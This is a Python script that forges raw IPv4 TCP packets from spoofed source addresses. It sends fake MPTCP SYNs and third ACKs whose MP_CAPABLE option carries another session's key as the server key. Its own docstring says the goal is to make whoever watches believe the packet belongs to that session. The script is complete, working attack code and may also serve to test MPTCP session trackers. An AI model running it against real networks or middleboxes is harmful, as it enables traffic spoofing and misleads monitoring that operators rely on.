#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Third ACKs of MPTCP handshakes that never were, each with another session's key as the server's, to
make who watches believe that session is where this packet goes. IPv4; needs CAP_NET_RAW.

usage: forge.py [--no-syn] [--isn-off N] FIRST-SOURCE TO:PORT SERVER-KEY...

Each key is tried from an address of its own, FIRST-SOURCE and up, from which nothing else comes: a SYN
with MP_CAPABLE, then the ACK, whose sequence number is N behind where it should be.
"""
import argparse
import ipaddress
import socket
import struct
import time

MSS, MP_CAPABLE_SYN = bytes.fromhex("020405b4"), bytes.fromhex("1e040101")
SYN, ACK, PORT, ISN = 0x02, 0x10, 20000, 1000000


def checksum(data):
    data += bytes(len(data) % 2)
    s = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def packet(source, to, port, seq, flags, options):
    ack = 1 if flags & ACK else 0
    tcp = struct.pack(">HHIIBBHHH", PORT, port, seq, ack, (5 + len(options) // 4) << 4, flags, 65535, 0,
                      0) + options
    pseudo = source + to + struct.pack(">BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0, source,
                       to) + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--no-syn", action="store_true")
    ap.add_argument("--isn-off", type=int, default=0)
    ap.add_argument("first")
    ap.add_argument("to")
    ap.add_argument("keys", nargs="+")
    opts = ap.parse_args()
    host, _, port = opts.to.rpartition(":")
    to, port = socket.inet_aton(host), int(port)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i, key in enumerate(opts.keys):
        source = (ipaddress.ip_address(opts.first) + i).packed
        if not opts.no_syn:
            raw.sendto(packet(source, to, port, ISN, SYN, MSS + MP_CAPABLE_SYN), (host, 0))
            time.sleep(0.005)
        both = bytes.fromhex("1e140101") + struct.pack(">Q", i + 1) + bytes.fromhex(key)
        raw.sendto(packet(source, to, port, ISN + 1 + opts.isn_off, ACK, both), (host, 0))


main()
